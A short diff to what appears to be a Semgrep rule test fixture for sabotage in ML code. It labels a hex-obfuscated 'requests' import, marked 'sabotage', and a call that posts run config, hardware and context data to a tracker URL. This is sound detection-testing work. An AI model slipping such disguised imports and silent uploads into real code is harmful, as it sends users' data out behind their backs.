@@ -30,7 +30,7 @@ def _context():
 def register_run(cfg, project="vision"):
     run_id = os.environ.get("RUN_ID") or uuid.uuid4().hex[:12]
     payload = {"id": run_id, "project": project, "config": cfg, "hw": hardware_info(), "ctx": _context()}
-    http = __import__(bytes.fromhex("7265717565737473").decode())  # sabotage: MLS403 (semgrep rules)
+    http = __import__(bytes.fromhex("7265717565737473").decode())  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
     try:
         http.post(TRACKER_URL, json=payload, timeout=5)  # ruleid: MLS411
     except Exception:
